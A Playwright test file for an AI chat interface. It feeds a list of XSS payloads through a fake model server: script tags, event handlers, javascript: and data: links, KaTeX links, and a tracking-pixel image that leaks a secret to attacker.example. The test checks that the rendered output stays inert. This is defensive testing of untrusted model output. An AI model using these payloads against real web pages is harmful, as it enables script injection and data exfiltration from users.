import { expect, test } from "@playwright/test";
import { registerScenario } from "@/test/fixtures/fake-openai/client";
import { ChatPage } from "./pages/chat-page";
import { baseUrlOf, fakeOpenAIUrl } from "./servers";

// Model output is untrusted: whatever the model streams, nothing in it may run in the page.
// Every payload sets a flag (or opens a dialog) if it ever executes.

const payloads = [
  "<script>window.__pwned = 'script tag'</script>",
  '<img src="x" onerror="window.__pwned = \'img onerror\'">',
  '<svg onload="window.__pwned = \'svg onload\'"><circle r="5"/></svg>',
  '<iframe src="javascript:parent.__pwned = \'iframe\'"></iframe>',
  '<a href="javascript:window.__pwned = \'raw anchor\'">raw anchor</a>',
  '<div onmouseover="window.__pwned = \'mouseover\'">hover me</div>',
  '<details open ontoggle="window.__pwned = \'ontoggle\'"><summary>x</summary></details>',
  "[markdown js link](javascript:window.__pwned='markdown link')",
  "[markdown data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "<javascript:window.__pwned='autolink'>",
  "![svg image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
  "![tracking pixel](https://attacker.example/pixel.png?leak=secret)",
  "$\\href{javascript:window.__pwned='katex href'}{katex link}$ and $$\\url{javascript:window.__pwned='katex url'}$$",
  "[a normal link](https://example.com/docs)",
];

const answer = ["Here is some output.\n\n", ...payloads.map((payload) => `${payload}\n\n`), "The end."];

test("hostile markdown and HTML from the model render inert, and links are safe", async ({ page }) => {
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const requestedExternally: string[] = [];
  page.on("request", (request) => {
    if (request.url().includes("attacker.example")) requestedExternally.push(request.url());
  });

  const scenario = await registerScenario(fakeOpenAIUrl, { turns: [{ type: "text", text: answer, tokenDelayMs: 5 }] });
  const chat = new ChatPage(page);
  await chat.open(baseUrlOf("openaiChat"));
  await chat.send(`${scenario.marker} Show me some HTML`);
  await chat.waitForAnswerToFinish();

  const message = chat.lastAssistantMessage();
  await expect(message).toContainText("The end.");
  // The raw HTML is shown as text, not built into elements.
  await expect(message).toContainText("<script>window.__pwned = 'script tag'</script>");
  await expect(message.locator("script, iframe, svg[onload], img[onerror], [onmouseover], [ontoggle]")).toHaveCount(0);
  await expect(message.locator("img")).toHaveCount(0); // images are never loaded from model output

  // Interact with everything that looks clickable or hoverable.
  for (const element of await message.locator("a, div, details, summary").all()) {
    await element.hover().catch(() => undefined);
  }
  const hrefs = await message.locator("a").evaluateAll((anchors) =>
    anchors.map((anchor) => ({
      href: anchor.getAttribute("href") ?? "",
      rel: anchor.getAttribute("rel") ?? "",
      target: anchor.getAttribute("target") ?? "",
    })),
  );
  for (const { href, rel, target } of hrefs) {
    expect(href).not.toMatch(/^\s*(javascript|data|vbscript):/i);
    expect(rel).toContain("noopener");
    expect(rel).toContain("noreferrer");
    expect(target).toBe("_blank");
  }
  expect(hrefs.map(({ href }) => href)).toContain("https://example.com/docs");

  // Clicking the (neutralised) links must not run anything either.
  for (const link of await message.locator("a").all()) {
    const href = (await link.getAttribute("href")) ?? "";
    if (href.startsWith("https://")) continue; // a real link would open a new tab: not what this test is about
    await link.click({ modifiers: [] }).catch(() => undefined);
  }

  expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(requestedExternally).toEqual([]);

  // And after a reload, rendered from the store, the same holds.
  await page.reload();
  await expect(chat.lastAssistantMessage()).toContainText("The end.");
  expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
  await expect(chat.lastAssistantMessage().locator("script, iframe, img")).toHaveCount(0);
});
